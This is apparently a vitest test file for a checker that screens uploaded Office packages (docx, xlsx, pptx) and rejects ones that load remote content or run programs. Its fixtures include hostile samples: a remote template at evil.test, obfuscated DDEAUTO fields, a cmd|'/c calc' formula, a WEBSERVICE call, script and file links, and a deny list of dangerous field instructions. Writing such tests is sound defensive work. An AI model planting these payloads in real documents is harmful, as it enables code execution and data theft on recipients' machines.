import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { sheetFile, slideFile, wordFile } from '../../../../test/make/office-files.ts';
import { trackedParts } from './office.ts';
import { checkOfficePackage } from './office-check.ts';
import { checkInstruction } from './office-fields.ts';
import { isOrdinaryLink } from './office-relationships.ts';
import { preparePackage, readPackage } from './package.ts';

const REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const evil = 'https://evil.test/t.dotm';
const rels = (content: string) => wordFile('x', { 'word/_rels/document.xml.rels': content });
const oneRel = (attributes: string) =>
  rels(`<Relationships xmlns="${REL}"><Relationship ${attributes}/></Relationships>`);
const part = (content: string) => wordFile('x', { 'word/header1.xml': `<w:hdr xmlns:w="${W}">${content}</w:hdr>` });
const field = (...runs: string[]) =>
  `<w:p>${['<w:fldChar w:fldCharType="begin"/>', ...runs, '<w:fldChar w:fldCharType="end"/>'].map((run) => `<w:r>${run}</w:r>`).join('')}</w:p>`;
const instr = (text: string) => `<w:instrText>${text}</w:instrText>`;
const template = `Id="r1" Type="${OFFICE}/attachedTemplate" Target="${evil}"`;

describe('what loads something or runs a program is rejected however it is written', () => {
  test.each<[string, Buffer, string]>([
    ['a character reference in the mode', oneRel(`${template} TargetMode="Ext&#101;rnal"`), 'external'],
    ['a character reference in the type', oneRel(`Id="r" Target="x" Type="${OFFICE}/ole&#79;bject"`), 'embedded'],
    [
      'a namespace prefix',
      rels(`<p:Relationships xmlns:p="${REL}"><p:Relationship ${template} TargetMode="External"/></p:Relationships>`),
      'external',
    ],
    [
      'a bracket in an attribute before the mode',
      oneRel(`${template} Title="&gt;>" TargetMode="External"`),
      'external',
    ],
    ['line breaks between the attributes', oneRel(`${template}\n\tTargetMode\n=\n'External'`), 'external'],
    ['another letter case of the mode', oneRel(`${template} TargetMode="external"`), 'broken'],
    [
      'a mode in a namespace',
      oneRel(`${template} xmlns:a="a" a:TargetMode="External" TargetMode="External"`),
      'external',
    ],
    ['an element of another name', rels(`<Relationships xmlns="${REL}"><Rel ${template}/></Relationships>`), 'broken'],
    ['an unknown namespace', rels(`<Relationships xmlns="x"><Relationship ${template}/></Relationships>`), 'broken'],
    ['an unknown type', oneRel(`Id="r" Type="${OFFICE}/somethingNew" Target="x.xml"`), 'embedded'],
    ['another format inside (altChunk)', oneRel(`Id="r" Type="${OFFICE}/aFChunk" Target="x.mht"`), 'embedded'],
    [
      'a server as the target of an inner part',
      oneRel(`Id="r" Type="${OFFICE}/image" Target="\\\\evil\\x"`),
      'external',
    ],
    [
      'a script as a link',
      oneRel(`Id="r" Type="${OFFICE}/hyperlink" Target="java&#x9;script:x" TargetMode="External"`),
      'script',
    ],
    [
      'a file as a link',
      oneRel(`Id="r" Type="${OFFICE}/hyperlink" Target="file://evil/x" TargetMode="External"`),
      'script',
    ],
    ['unclosed elements', readFileSync(new URL('./rel20000.docx.fixture', import.meta.url)), 'broken'],
    ['a DOCTYPE', rels(`<!DOCTYPE Relationships><Relationships xmlns="${REL}"/>`), 'broken'],
    ['UTF-16', wordFile('x', { 'word/header1.xml': '<\0a\0/\0>\0' }), 'broken'],
    [
      'another declared encoding',
      wordFile('x', { 'word/header1.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' }),
      'broken',
    ],
    ['a field in CDATA', part(field(instr('<![CDATA[DDEAUTO]]> cmd'))), 'script'],
    ['a field with a character reference', part(field(instr('DD&#69;AUTO cmd'))), 'script'],
    ['a field in many runs', part(field(instr('D'), instr('D'), instr('EAU'), instr('TO cmd'))), 'script'],
    [
      'a field of another prefix',
      wordFile('x', {
        'word/header1.xml': `<q:hdr xmlns:q="${W}"><q:fldSimple q:instr="INCLUDEPICTURE &quot;${evil}&quot;"/></q:hdr>`,
      }),
      'script',
    ],
    [
      'a field whose name another field makes',
      part(field(field(instr('QUOTE 68 68 69')), instr('AUTO cmd'))),
      'script',
    ],
    ['a deleted field', part(field('<w:delInstrText>LINK Excel.Sheet</w:delInstrText>')), 'script'],
    ['a comment inside a field', part(field(instr('DDE<!-- -->AUTO cmd'))), 'script'],
    ['a field with a link to a file', part(field(instr('HYPERLINK "file://evil/x"'))), 'script'],
    [
      'a mail merge',
      wordFile('x', { 'word/settings.xml': `<w:settings xmlns:w="${W}"><w:mailMerge/></w:settings>` }),
      'external',
    ],
    [
      'a part of an unusual name',
      wordFile('x', {
        '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/header1.dat" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/></Types>`,
        'word/header1.dat': `<w:hdr xmlns:w="${W}">${field(instr('DDE cmd'))}</w:hdr>`,
      }),
      'script',
    ],
    [
      'a program as the action of a shape',
      wordFile('x', { 'word/header1.xml': '<a:hlinkClick xmlns:a="a" action="ppaction://progr&#97;m"/>' }),
      'script',
    ],
    [
      'a picture of VML',
      wordFile('x', { 'word/header1.xml': `<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="${evil}"/>` }),
      'external',
    ],
    [
      'a formula that runs a program',
      sheetFile('x', { 'xl/worksheets/sheet2.xml': "<f>cmd|'/c calc'!A0</f>" }),
      'script',
    ],
    [
      'a formula that loads',
      sheetFile('x', { 'xl/worksheets/sheet2.xml': '<a><f>_xlfn.WEB<![CDATA[SERVICE]]>("https://evil.test")</f></a>' }),
      'script',
    ],
  ])('%s', async (_, file, code) => {
    await expect(checkOfficePackage(file)).rejects.toMatchObject({ code: `attachment.${code}` });
  });
});

test('ordinary documents pass', async () => {
  const link = (target: string) => oneRel(`Id="r" Type="${OFFICE}/hyperlink" Target="${target}" TargetMode="External"`);
  expect(await checkOfficePackage(wordFile('Текст {{link}}'))).toBe('docx');
  expect(await checkOfficePackage(sheetFile('a\tb', { 'xl/worksheets/sheet2.xml': '<f>IF(A1="a|b!",1,2)</f>' }))).toBe(
    'xlsx',
  );
  expect(await checkOfficePackage(slideFile())).toBe('pptx');
  for (const target of ['https://a.test/x', 'mailto:a@b.test', '{{link}}', 'file:///C:/x/%7b%7blink%7d%7d', '#top'])
    expect(await checkOfficePackage(link(target)), target).toBe('docx');
  const fields = field(instr(' PAGE '), '<w:fldChar w:fldCharType="separate"/>', '<w:t>DDE</w:t>');
  const toc = field(instr('TOC \\o "1-3"'), '<w:fldChar w:fldCharType="separate"/>', field(instr('PAGEREF _Toc1 \\h')));
  expect(await checkOfficePackage(part(fields + toc + field(instr('HYPERLINK \\l "mark"'))))).toBe('docx');
  const merged = field(instr('IF '), field(instr('MERGEFIELD a')), instr(' = "1" "yes" "no"'));
  expect(await checkOfficePackage(part(merged))).toBe('docx');
});

test('a document with the tracking picture of the product passes as well', async () => {
  for (const [file, format] of [
    [wordFile('x {{link}}'), 'docx'],
    [sheetFile('x'), 'xlsx'],
    [slideFile(), 'pptx'],
  ] as const) {
    const parts = await readPackage(file);
    expect(await checkOfficePackage(file)).toBe(format);
    const tracked = preparePackage(trackedParts(parts, format, true))({
      link: 'https://a.test',
      seen: 'https://a.test/s',
    });
    // Only the picture is what an upload must not contain.
    await expect(checkOfficePackage(tracked)).rejects.toMatchObject({ code: 'attachment.external' });
  }
});

test('links and fields', () => {
  for (const link of ['http://a', 'HTTPS://a', 'mailto:a@b', 'page.html', '#x', ''])
    expect(isOrdinaryLink(link), link).toBe(true);
  for (const link of ['file:///x', 'ms-word:x', '\\\\a\\b', '//a/b', 'vb\nscript:x', 'search-ms:x', 'C:\\x', 'a\\b'])
    expect(isOrdinaryLink(link), link).toBe(false);
  for (const one of ['page', 'REF a', '=1+1', 'HYPERLINK "https://a.test" \\o "x"', 'DATE \\@ "d"', ''])
    expect(() => checkInstruction(one), one).not.toThrow();
  for (const one of ['DDE', 'ddeauto x', 'INCLUDETEXT "a"', 'RD x', 'DATABASE', 'IMPORT x', 'MACROBUTTON a b', '"DDE"'])
    expect(() => checkInstruction(one), one).toThrow();
});
